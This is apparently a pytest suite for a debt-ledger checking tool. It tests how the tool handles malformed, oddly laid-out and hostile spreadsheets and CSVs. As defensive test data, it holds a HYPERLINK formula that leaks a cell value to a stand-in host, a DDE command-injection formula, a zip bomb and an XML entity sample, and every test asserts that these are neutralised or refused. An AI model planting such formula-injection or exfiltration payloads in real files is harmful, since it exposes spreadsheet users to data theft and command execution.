"""Ledgers that somebody else made: odd, damaged or hostile. Each is told; nothing is run, nothing is lost."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from cli_run import typed
from ledger_kit import DAY, HEAD, cells_of, raw_workbook, row, sheet_rows, workbook
from lexcollect.findings import Refused
from lexcollect.ledgers.checking import Choices, check
from lexcollect.ledgers.fields import Field
from lexcollect.ledgers.result import write_result
from lexcollect.ledgers.row import Action, Ledger, LimitationState

EVIL = '=HYPERLINK("http://example.invalid/?"&D2,"点这里")'


def codes(ledger: Ledger, number: int) -> set[str]:
    """Return the findings of a row."""
    return {issue.code for one in ledger.rows if one.number == number for issue in one.issues}


def of_file(ledger: Ledger) -> set[str]:
    """Return the findings of the file as a whole."""
    return {one.code for one in ledger.findings}


def refusal(path: Path, **choices: object) -> str:
    """Return the code by which a file is refused."""
    with pytest.raises(Refused) as stopped:
        check(path, DAY, Choices(**choices))  # type: ignore[arg-type]
    return stopped.value.findings[0].code


def test_words_that_begin_as_a_formula_stay_words_in_the_result(tmp_path: Path) -> None:
    """A customer called =HYPERLINK(…): in the result no cell is a formula, as workbook and as text."""
    path = raw_workbook(tmp_path / "台账.xlsx", f"<sheetData>{sheet_rows([HEAD, row(name='@SUM(A1)')])}</sheetData>")
    result = write_result(path, check(path, DAY)).path
    page = load_workbook(result).worksheets[0]
    assert not [cell for line in page.iter_rows() for cell in line if cell.data_type == "f"]
    assert page["A2"].value == "@SUM(A1)" and page["A2"].quotePrefix
    text = tmp_path / "t.csv"
    text.write_text(",".join(HEAD) + "\n\"=cmd|' /C calc'!A0\",个人,,SL1,2024-01-05,2024-07-05,1,0,1,逾期\n", "utf-8")
    told = write_result(text, check(text, DAY)).path.read_text("utf-8-sig").splitlines()[1]
    assert told.startswith("'=cmd") and ",=" not in told and '"=' not in told


def test_a_formula_is_not_run_and_its_stored_value_is_told(tmp_path: Path) -> None:
    cells = sheet_rows([HEAD]) + (
        '<row r="2"><c t="inlineStr"><is><t>柳范宁</t></is></c>'
        '<c r="C2" t="inlineStr"><is><t>120199196706030044</t></is></c>'
        '<c r="D2" t="inlineStr"><is><t>SL1</t></is></c><c r="F2" t="inlineStr"><is><t>2024-07-05</t></is></c>'
        '<c r="G2"><v>10000</v></c><c r="H2"><v>0</v></c><c r="I2"><f>G2-H2</f><v>10000</v></c></row>'
        '<row r="3"><c t="inlineStr"><is><t>柳范平</t></is></c><c r="D3" t="inlineStr"><is><t>SL2</t></is></c>'
        '<c r="F3" t="inlineStr"><is><t>2024-07-05</t></is></c>'
        '<c r="G3"><v>10000</v></c><c r="I3"><f>G3-H3</f></c></row>'
        '<row r="4"><c t="inlineStr"><is><t>柳范安</t></is></c><c r="D4" t="inlineStr"><is><t>SL3</t></is></c>'
        '<c r="G4" t="e"><f>1/0</f><v>#DIV/0!</v></c><c r="I4"><v>5</v></c></row>'
    )
    ledger = check(raw_workbook(tmp_path / "台账.xlsx", f"<sheetData>{cells}</sheetData>"), DAY)
    assert ledger.rows[0].balance == 10000 and "LX-G083" in codes(ledger, 2)
    assert ledger.rows[1].balance is None and "LX-G084" in codes(ledger, 3)
    assert ledger.rows[2].amount is None and "LX-G085" in codes(ledger, 4)


def test_a_sheet_of_five_million_cells_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    empty = raw_workbook(tmp_path / "leer.xlsx", "")
    line = "".join(f"<c><v>{number}</v></c>" for number in range(50))
    rows = "".join(f'<row r="{number}">{line}</row>' for number in range(1002, 2002))
    path = tmp_path / "台账.xlsx"
    with zipfile.ZipFile(empty) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for info in old.infolist():
            if not info.filename.endswith("sheet1.xml"):
                new.writestr(info.filename, old.read(info))
        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(f"<worksheet><sheetData>{sheet_rows([HEAD])}".encode())
            for turn in range(100):
                part.write(rows.replace('r="', f'r="{turn}').encode())
            part.write(b"</sheetData></worksheet>")
    assert refusal(path) == "LX-G089"


def test_a_format_painted_to_the_last_row_stops_nothing(tmp_path: Path) -> None:
    """A million formatted cells without a value, and a size that the file gives wrongly, as WPS does."""
    blank = "".join(f'<row r="{number}"><c r="A{number}" s="0"/></row>' for number in range(3, 60_003))
    last = '<row r="1048576"><c r="XFD1048576" s="0"/></row>'
    sheet = f'<dimension ref="A1"/><sheetData>{sheet_rows([HEAD, row()])}{blank}{last}</sheetData>'
    ledger = check(raw_workbook(tmp_path / "台账.xlsx", sheet), DAY)
    assert [one.number for one in ledger.rows] == [2] and ledger.rows[0].name == "柳范宁"


def test_one_value_in_the_last_cell_of_a_sheet_takes_no_memory(tmp_path: Path) -> None:
    last = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    sheet = f"<sheetData>{sheet_rows([HEAD, row()])}{last}</sheetData>"
    ledger = check(raw_workbook(tmp_path / "台账.xlsx", sheet), DAY)
    assert [one.number for one in ledger.rows] == [2]


def test_a_bomb_and_an_entity_are_refused(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    raw_workbook(bomb, f"<sheetData>{sheet_rows([HEAD, row()])}</sheetData>" + " " * 40_000_000)
    assert refusal(bomb) == "LX-G089"
    entity = raw_workbook(tmp_path / "entity.xlsx", "<sheetData/>")
    with zipfile.ZipFile(entity) as box:
        parts = {name: box.read(name) for name in box.namelist()}
    sheet = b'<worksheet><sheetData><row r="1"><c><v>&a;</v></c></row></sheetData></worksheet>'
    doctype = b'<!DOCTYPE w [<!ENTITY a "x">]>' + sheet
    with zipfile.ZipFile(entity, "w") as box:
        for name, data in parts.items():
            box.writestr(name, doctype if name.endswith("sheet1.xml") else data)
    assert refusal(entity) == "LX-G088"


def test_a_ledger_with_a_password_is_told(tmp_path: Path) -> None:
    """An encrypted workbook is an old container with the workbook inside."""
    path = tmp_path / "台账.xlsx"
    path.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(1000)
    )
    code, out, _ = typed("batch", "check", path.name, cwd=tmp_path)
    assert code == 3 and "LX-G087" in out and "密码" in out


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("台账.xlsx", b"", "LX-G088"),
        ("台账.xlsx", b"PK\x03\x04" + bytes(200), "LX-G088"),
        ("台账.xls", b"<html><table><tr><td>\xe5\xa7\x93</td></tr></table></html>", "LX-G088"),
        ("台账.csv", b"\x00\x01\x02\x03" * 500, "LX-G088"),
        ("台账.csv", "今天天气很好\n明天也是\n".encode(), "LX-G086"),
    ],
)
def test_what_is_no_ledger_is_refused_with_a_remedy(tmp_path: Path, name: str, data: bytes, code: str) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    assert refusal(path) == code
    ended, out, _ = typed("batch", "check", name, cwd=tmp_path)
    assert ended == 3 and code in out and "请" in out


def test_a_heading_of_two_rows_is_read_as_one(tmp_path: Path) -> None:
    above = ["客户信息", None, None, "合同信息", None, None, "金额情况（元）", None, None, "状态"]
    below = [
        "客户名称",
        "客户类型",
        "证件号",
        "合同编号",
        "签约日期",
        "到期日",
        "合同金额",
        "已还金额",
        "欠款余额",
        None,
    ]
    path = tmp_path / "台账.xlsx"
    workbook(path, [["逾期台账"], above, below, row(), row(name="柳范平", contract="SL2")])
    ledger = check(path, DAY)
    assert ledger.head_rows == (2, 3) and "LX-G091" in of_file(ledger)
    assert {column.field for column in ledger.columns} == {
        *("name", "kind", "ident", "contract", "sign", "due", "amount", "paid", "balance", "status")
    }
    assert [one.number for one in ledger.rows] == [4, 5] and ledger.rows[0].action is Action.READY


def test_merged_cells_count_for_every_row_they_cover(tmp_path: Path) -> None:
    """One customer over three contracts, merged as people do: three rows of the same debtor, each told."""
    book = Workbook()
    page = book.active
    assert page is not None
    for one in [
        HEAD,
        row(),
        row(name=None, contract="SL2"),
        row(name=None, contract="SL3"),
        row(name="柳范平", contract="SL4"),
    ]:
        page.append(one)
    page.merge_cells("A2:A4")
    path = tmp_path / "台账.xlsx"
    book.save(path)
    ledger = check(path, DAY)
    assert [one.name for one in ledger.rows] == ["柳范宁", "柳范宁", "柳范宁", "柳范平"]
    assert "LX-G082" not in codes(ledger, 2) and "LX-G082" in codes(ledger, 3) & codes(ledger, 4)
    result = cells_of(write_result(path, ledger).path)
    assert [line[0] for line in result] == ["客户名称", "柳范宁", None, None, "柳范平"]


def test_hidden_rows_are_debts_and_are_told(tmp_path: Path) -> None:
    book = Workbook()
    page = book.active
    assert page is not None
    for one in [HEAD, row(), row(contract="SL2", name="柳范平"), row(contract="SL3", name="柳范安")]:
        page.append(one)
    page.row_dimensions[3].hidden = True
    path = tmp_path / "台账.xlsx"
    book.save(path)
    ledger = check(path, DAY)
    assert ledger.hidden == (3,) and len(ledger.rows) == 3 and "LX-G093" in of_file(ledger)
    assert load_workbook(write_result(path, ledger).path).worksheets[0].row_dimensions[3].hidden


def test_days_counted_from_1904_are_converted_and_told(tmp_path: Path) -> None:
    """Old Excel for the Mac: 43286 is 2022-07-05 there and 2018-07-05 elsewhere."""
    styles = "<styleSheet><cellXfs><xf numFmtId='0'/><xf numFmtId='14'/></cellXfs></styleSheet>"
    cells = sheet_rows([HEAD]) + (
        '<row r="2"><c t="inlineStr"><is><t>柳范宁</t></is></c>'
        '<c r="F2" s="1"><v>43286</v></c><c r="G2"><v>1</v></c></row>'
    )
    new = raw_workbook(tmp_path / "new.xlsx", f"<sheetData>{cells}</sheetData>", styles=styles)
    old = raw_workbook(
        tmp_path / "old.xlsx", f"<sheetData>{cells}</sheetData>", styles=styles, book='<workbookPr date1904="1"/>'
    )
    assert check(new, DAY).rows[0].due == date(2018, 7, 5)
    ledger = check(old, DAY)
    assert ledger.rows[0].due == date(2022, 7, 6) and "LX-G015" in of_file(ledger)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_text_in_any_encoding_with_any_separator(tmp_path: Path, encoding: str, separator: str) -> None:
    lines = [
        HEAD,
        ["柳范宁", "个人", "120199196706030044", "SL1", "2024-01-05", "2024/7/5", "10000", "0", "10000.00", "逾期"],
    ]
    path = tmp_path / "台账.csv"
    path.write_text("\r\n".join(separator.join(line) for line in lines) + "\r\n", encoding)
    ledger = check(path, DAY)
    assert ledger.rows[0].action is Action.READY and ledger.rows[0].due == date(2024, 7, 5)
    assert ledger.rows[0].issues == ()
    assert write_result(path, ledger).path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_quote_that_does_not_close_swallows_no_row(tmp_path: Path) -> None:
    good = "柳范宁,个人,120199196706030044,SL{},2024-01-05,2024-07-05,10000,0,10000,逾期"
    lines = [",".join(HEAD), good.format(1), '"柳范"平,个人,x,SL2,2024-01-05,2024-07-05,1,0,1,逾期', good.format(3)]
    path = tmp_path / "台账.csv"
    path.write_text("\n".join(lines) + "\n", "utf-8")
    ledger = check(path, DAY)
    assert [one.contract for one in ledger.rows if one.contract in ("SL1", "SL3")] == ["SL1", "SL3"]
    assert sum(ledger.counts().values()) == len(ledger.rows) == 3
    assert "LX-G016" in codes(ledger, 3)


def test_an_identity_number_that_ends_in_three_zeros_was_cut_by_a_program(tmp_path: Path) -> None:
    path = workbook(tmp_path / "台账.xlsx", [HEAD, row(ident="120199196706030000")])
    ledger = check(path, DAY)
    assert "LX-G045" in codes(ledger, 2) and ledger.rows[0].action is Action.REVIEW_DATA


def test_sums_in_ten_thousands_by_the_heading_are_told_and_converted(tmp_path: Path) -> None:
    heads = [*HEAD[:6], "合同金额（万元）", "已还金额（万元）", "欠款余额（万元）", "状态"]
    path = workbook(tmp_path / "台账.xlsx", [heads, row(amount=1.5, paid=0.5, balance=1)])
    ledger = check(path, DAY)
    assert (ledger.rows[0].amount, ledger.rows[0].balance) == (15000, 10000)
    assert "LX-G096" in of_file(ledger) and "LX-G031" not in codes(ledger, 2)


def test_totals_notes_and_a_heading_again_are_no_debts_and_are_told(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    rows = [HEAD, row(), ["小计", None, None, None, None, None, 10000], HEAD, row(contract="SL2"), ["制表人：张例"]]
    ledger = check(workbook(path, rows), DAY)
    assert [one.number for one in ledger.rows] == [2, 5]
    assert ledger.totals == (3,) and ledger.remarks == (4, 6)
    assert {"LX-G094", "LX-G017"} <= of_file(ledger)


def test_one_contract_of_two_debtors_is_no_duplicate(tmp_path: Path) -> None:
    other = row(name="南京市恒丰样例商贸有限公司", kind="企业", ident="91370102FAKE97986M")
    ledger = check(workbook(tmp_path / "台账.xlsx", [HEAD, row(), other]), DAY)
    assert "LX-G018" in codes(ledger, 3) and ledger.rows[1].action is Action.REVIEW_DATA


def test_a_column_nobody_knows_is_named_and_the_user_says_what_it_is(tmp_path: Path) -> None:
    heads = [*HEAD[:5], "最晚日子", *HEAD[6:]]
    path = workbook(tmp_path / "台账.xlsx", [heads, row()])
    code, out, _ = typed("batch", "check", path.name, "--as-of", "2026-11-21", cwd=tmp_path)
    assert code == 1 and "LX-G090" in out and "到期日" in out and "最晚日子" in out
    words = ("batch", "check", path.name, "--as-of", "2026-11-21")
    code, out, _ = typed(*words, "--column", "到期日=F", "--save-mapping", "台账对应.yaml", cwd=tmp_path)
    assert code == 0 and "最晚日子→到期日（您指定）" in out and "可出文书 1" in out
    # Next month a column was put in; the saved mapping goes by the words of the heading.
    moved = workbook(tmp_path / "下月.xlsx", [["序号", *heads], [1, *row()]])
    code, out, _ = typed("batch", "check", moved.name, *words[3:], "--mapping", "台账对应.yaml", cwd=tmp_path)
    assert code == 0 and "最晚日子→到期日（按对应文件）" in out


@pytest.mark.parametrize("word", ["到期日", "到期日=AAAA", "没有这个=F", "到期日=没有的列"])
def test_a_column_that_is_typed_wrongly_is_told(tmp_path: Path, word: str) -> None:
    path = workbook(tmp_path / "台账.xlsx", [HEAD, row()])
    code, out, _ = typed("batch", "check", path.name, "--column", word, cwd=tmp_path)
    assert code == 1 and "LX-G099" in out and not list(tmp_path.glob("*检查*"))


def test_a_mapping_that_is_none_is_told(tmp_path: Path) -> None:
    path = workbook(tmp_path / "台账.xlsx", [HEAD, row()])
    mapping = tmp_path / "m.yaml"
    for words in (
        "a: b\n",
        "格式: lexcollect/ledger-columns/1\n列: {随便: F}\n",
        "格式: lexcollect/ledger-columns/1\n",
    ):
        mapping.write_text(words, "utf-8")
        assert refusal(path, mapping=mapping) == "LX-G098"


def test_a_content_without_a_heading_name_is_recognised(tmp_path: Path) -> None:
    rows = [row(contract=f"SL{number}") for number in range(5)]
    heads = [*HEAD[:2], "号码", *HEAD[3:]]
    ledger = check(workbook(tmp_path / "台账.xlsx", [heads, *rows]), DAY)
    column = ledger.field_column(Field.IDENT)
    assert column and (column.head, column.by) == ("号码", "content")


def test_the_result_is_never_laid_over_something_else(tmp_path: Path) -> None:
    path = workbook(tmp_path / "台账.xlsx", [HEAD, row()])
    other = tmp_path / "台账.检查.xlsx"
    other.write_bytes(b"not ours")
    written = write_result(path, check(path, DAY))
    assert other.read_bytes() == b"not ours" and written.path.name == "台账.检查(2).xlsx"
    kept = path.read_bytes()
    assert write_result(path, check(path, DAY), path).path != path and path.read_bytes() == kept


def test_a_demand_on_the_monday_after_the_last_saturday_is_not_counted(tmp_path: Path) -> None:
    """The third year ends on a Saturday: the day by counting is what one can rely on (民法典 203)."""
    heads = [*HEAD, "最近催收日期", "催收方式"]
    due = date(2021, 6, 22)  # the third year ends on Saturday 2024-06-22
    path = workbook(tmp_path / "台账.xlsx", [heads, [*row(sign=date(2021, 1, 1), due=due), date(2024, 6, 24), "EMS"]])
    ledger = check(path, DAY)
    limits = ledger.rows[0].limitation
    assert limits.expiry == date(2024, 6, 22) and limits.last_day == date(2024, 6, 24)
    assert limits.state is LimitationState.EXPIRED and limits.rolled_reading == date(2027, 6, 24)
    assert "LX-G078" in codes(ledger, 2)
    assert check(path, date(2024, 6, 24)).rows[0].limitation.state is LimitationState.EXPIRED
    assert "LX-G019" in codes(check(path, date(2024, 6, 23)), 2)
